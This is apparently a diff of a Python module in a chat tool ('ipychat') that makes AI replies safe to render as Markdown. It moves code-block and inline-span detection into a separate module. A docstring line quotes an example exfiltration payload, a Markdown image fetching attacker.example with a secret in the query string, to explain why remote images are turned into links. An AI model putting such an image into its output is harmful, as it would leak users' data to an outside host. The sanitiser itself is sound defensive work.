@@ -12,18 +12,27 @@ user produced (they are trusted), and fetches every image a Markdown output name
   `![x](https://attacker.example/?d=SECRET)` would otherwise be fetched the moment the reply
   is shown); an unclosed code fence is closed, so it cannot swallow what follows.
 
-Nothing inside code spans or fenced/indented code blocks is ever changed.
+Nothing inside code spans or fenced/indented code blocks is ever changed (where code is:
+`ipychat.core.mdcode`).
 Pure: standard library only, no I/O.
 """
 
 from __future__ import annotations
 
-import bisect
 import html
 import re
 import threading
 from collections.abc import Callable
 from urllib.parse import urlsplit
+
+from ipychat.core.mdcode import (
+    BLANK_LINE,
+    CodeMap,
+    close_fences,
+    code_regions,
+    fenced,
+    is_escaped,
+)
 
 __all__ = [
     "LITERAL_DOLLAR",
@@ -58,140 +67,6 @@ def remote_images_allowed() -> bool:
     return _remote_images
 
 
-# ----- where code is --------------------------------------------------------------------------
-
-# Fences may sit inside block quotes and list items (any indentation), as replies write them.
-_FENCE_OPEN = re.compile(r"(?:[ \t]*>)*[ \t]*(?P<fence>`{3,}|~{3,})(?P<info>[^\n]*)")
-_FENCE_CLOSE = re.compile(r"(?:[ \t]*>)*[ \t]*(?P<fence>`{3,}|~{3,})[ \t]*")
-_LIST_ITEM = re.compile(r"[ \t]*(?:[-*+]|\d{1,9}[.)])(?:[ \t]|$)")
-_BACKTICKS = re.compile(r"`+")
-_BLANK_LINE = re.compile(r"\n[ \t]*\n")
-
-
-class _Code:
-    """Code regions of a text: fenced and indented blocks, then inline code spans."""
-
-    def __init__(self, text: str) -> None:
-        self.open_fence: str | None = None  # the fence a text ends inside, if it does
-        blocks = self._blocks(text)
-        regions: list[tuple[int, int]] = []
-        last = 0
-        for start, end in blocks:
-            regions.extend(_spans(text, last, start))
-            regions.append((start, end))
-            last = end
-        regions.extend(_spans(text, last, len(text)))
-        self.regions = regions
-        self._starts = [s for s, _ in regions]
-
-    def _blocks(self, text: str) -> list[tuple[int, int]]:
-        blocks: list[tuple[int, int]] = []
-        fence: tuple[str, int, int] | None = None  # (character, length, start)
-        code_start: int | None = None  # an indented code block in progress
-        previous_blank, in_list = True, False
-        pos = 0
-        for line in text.splitlines(keepends=True):
-            body = line.rstrip("\r\n")
-            blank = not body.strip()
-            if fence is not None:
-                close = _FENCE_CLOSE.fullmatch(body)
-                if close and close["fence"][0] == fence[0] and len(close["fence"]) >= fence[1]:
-                    blocks.append((fence[2], pos + len(body)))
-                    fence = None
-            else:
-                opening = _FENCE_OPEN.fullmatch(body)
-                if opening and not (opening["fence"][0] == "`" and "`" in opening["info"]):
-                    if code_start is not None:
-                        blocks.append((code_start, pos))
-                        code_start = None
-                    fence = (opening["fence"][0], len(opening["fence"]), pos)
-                elif not blank and _indent(body) >= 4 and not in_list:
-                    if code_start is None and previous_blank:
-                        code_start = pos
-                elif not blank:
-                    if code_start is not None:
-                        blocks.append((code_start, pos))
-                        code_start = None
-                    if _LIST_ITEM.match(body):
-                        in_list = True
-                    elif _indent(body) == 0:
-                        in_list = False
-            previous_blank = blank and (code_start is None or previous_blank)
-            pos += len(line)
-        if fence is not None:
-            blocks.append((fence[2], len(text)))
-            self.open_fence = fence[0] * fence[1]
-        if code_start is not None:
-            blocks.append((code_start, len(text)))
-        return blocks
-
-    def contains(self, pos: int) -> bool:
-        i = bisect.bisect_right(self._starts, pos) - 1
-        return i >= 0 and pos < self.regions[i][1]
-
-
-def _indent(line: str) -> int:
-    return len(line.expandtabs(4)) - len(line.expandtabs(4).lstrip(" "))
-
-
-def _spans(text: str, start: int, end: int) -> list[tuple[int, int]]:
-    """Inline code spans in text[start:end]: a backtick run closed by a run of equal length
-    in the same paragraph (CommonMark 6.1)."""
-    found: list[tuple[int, int]] = []
-    pos = start
-    while True:
-        run = _BACKTICKS.search(text, pos, end)
-        if run is None:
-            return found
-        if _escaped(text, run.start()):
-            pos = run.start() + 1  # `\`` is a literal backtick; the rest may open a span
-            continue
-        stop = end
-        blank = _BLANK_LINE.search(text, run.end(), end)
-        if blank is not None:
-            stop = blank.start()
-        closer = _BACKTICKS.search(text, run.end(), stop)
-        while closer is not None and len(closer.group()) != len(run.group()):
-            closer = _BACKTICKS.search(text, closer.end(), stop)
-        if closer is None:
-            pos = run.end()
-        else:
-            found.append((run.start(), closer.end()))
-            pos = closer.end()
-
-
-def _escaped(text: str, pos: int) -> bool:
-    """Whether text[pos] is backslash-escaped (an odd number of backslashes before it)."""
-    n = 0
-    while pos - n - 1 >= 0 and text[pos - n - 1] == "\\":
-        n += 1
-    return n % 2 == 1
-
-
-def code_regions(text: str) -> list[tuple[int, int]]:
-    """(start, end) of every code block and code span of `text`, in order."""
-    return list(_Code(text).regions)
-
-
-# ----- fences ---------------------------------------------------------------------------------
-
-
-def close_fences(text: str) -> str:
-    """`text` with its last code fence closed if it was left open (a reply cut mid-block, or
-    streaming), so the block cannot swallow the footer and the turns after it."""
-    fence = _Code(text).open_fence
-    if fence is None:
-        return text
-    return text + ("" if text.endswith("\n") else "\n") + fence
-
-
-def fenced(text: str, info: str = "") -> str:
-    """`text` as a fenced code block whose fence is longer than any backtick run inside."""
-    longest = max((len(m.group()) for m in _BACKTICKS.finditer(text)), default=0)
-    fence = "`" * max(3, longest + 1)
-    return f"{fence}{info}\n{text}\n{fence}"
-
-
 # ----- dollar signs ---------------------------------------------------------------------------
 
 
@@ -215,17 +90,17 @@ def escape_dollars(text: str) -> str:
     Markdown export read as text (`jupyter nbconvert --to markdown`). Any other `$` (a system
     prompt shown back, say) becomes LITERAL_DOLLAR.
     """
-    code = _Code(text)
+    code = CodeMap(text)
     out, last = [], 0
     for m in _AMOUNT.finditer(text):
-        if code.contains(m.start()) or _escaped(text, m.start()):
+        if code.contains(m.start()) or is_escaped(text, m.start()):
             continue
         out.append(text[last : m.start()])
         out.append(f"`{m.group()}`")
         last = m.end()
     out.append(text[last:])
     text = "".join(out)
-    code = _Code(text)
+    code = CodeMap(text)
     return _literal_dollars(
         text, [i for i, c in enumerate(text) if c == "$" and not code.contains(i)]
     )
@@ -237,7 +112,7 @@ def _literal_dollars(text: str, positions: list[int]) -> str:
         return text
     out, last = [], 0
     for pos in positions:
-        start = pos - 1 if _escaped(text, pos) else pos
+        start = pos - 1 if is_escaped(text, pos) else pos
         out.append(text[last:start])
         out.append(LITERAL_DOLLAR)
         last = pos + 1
@@ -258,9 +133,9 @@ def _currency(text: str) -> str:
     space), so both show as written. `$$…$$` display math is kept whole. A `\\$` the model
     escaped itself is meant as text, and shown as such.
     """
-    code = _Code(text)
+    code = CodeMap(text)
     every = [i for i, c in enumerate(text) if c == "$" and not code.contains(i)]
-    dollars = [i for i in every if not _escaped(text, i)]
+    dollars = [i for i in every if not is_escaped(text, i)]
     literal: list[int] = []
     math: list[tuple[int, int]] = []
     i = 0
@@ -270,7 +145,7 @@ def _currency(text: str) -> str:
             j = i + 2
             while j + 1 < len(dollars) and dollars[j + 1] != dollars[j] + 1:
                 j += 1
-            closed = j + 1 < len(dollars) and not _BLANK_LINE.search(text, pos, dollars[j])
+            closed = j + 1 < len(dollars) and not BLANK_LINE.search(text, pos, dollars[j])
             if closed:
                 math.append((pos, dollars[j + 1]))
             i = j + 2 if closed else i + 2  # the whole block, or just an unclosed `$$`
@@ -282,7 +157,7 @@ def _currency(text: str) -> str:
         if _CURRENCY.match(text, pos):
             literal.append(pos)
         i += 1
-    escaped = [i for i in every if _escaped(text, i) and not any(a < i < b for a, b in math)]
+    escaped = [i for i in every if is_escaped(text, i) and not any(a < i < b for a, b in math)]
     return _literal_dollars(text, sorted(literal + escaped))
 
 
@@ -294,7 +169,7 @@ def _closes(text: str, start: int, end: int, dollars: list[int]) -> bool:
         return False
     if text[end - 1].isspace() or (end + 1 < len(text) and text[end + 1].isdigit()):
         return False
-    return _BLANK_LINE.search(text, start, end) is None
+    return BLANK_LINE.search(text, start, end) is None
 
 
 # ----- raw HTML and images --------------------------------------------------------------------
@@ -355,7 +230,7 @@ def _link_label(alt: str, url: str) -> str:
 
 def _html(text: str, allow_images: bool) -> str:
     """Raw HTML shown as text, except attribute-free formatting tags; `<img>` as Markdown."""
-    code = _Code(text)
+    code = CodeMap(text)
     out, last = [], 0
     for m in _HTML.finditer(text):
         if code.contains(m.start()):
@@ -404,7 +279,7 @@ def _images(text: str, allow_images: bool) -> str:
     """Remote Markdown images (inline, full, collapsed and shortcut references) as links."""
     if allow_images or "![" not in text:
         return text
-    code = _Code(text)
+    code = CodeMap(text)
     definitions: dict[str, str] = {}
     for d in _DEFINITION.finditer(text):
         if not code.contains(d.start("label")):
@@ -415,7 +290,7 @@ def _images(text: str, allow_images: bool) -> str:
         if bang < 0:
             break
         pos = bang + 2
-        if code.contains(bang) or _escaped(text, bang):
+        if code.contains(bang) or is_escaped(text, bang):
             continue
         parsed = _parse_image(text, bang, definitions)
         if parsed is None:
@@ -500,7 +375,7 @@ def prompt_markdown(text: str, *, allow_images: bool | None = None) -> str:
     """A prompt shown back (panel, `%chat history`): quoted, line breaks kept, and as safe as
     a reply (a prompt can hold pasted or interpolated text)."""
     body = reply_markdown(text, allow_images=allow_images)
-    code = _Code(body)
+    code = CodeMap(body)
     lines, pos = [], 0
     raw = body.split("\n")
     for n, line in enumerate(raw):
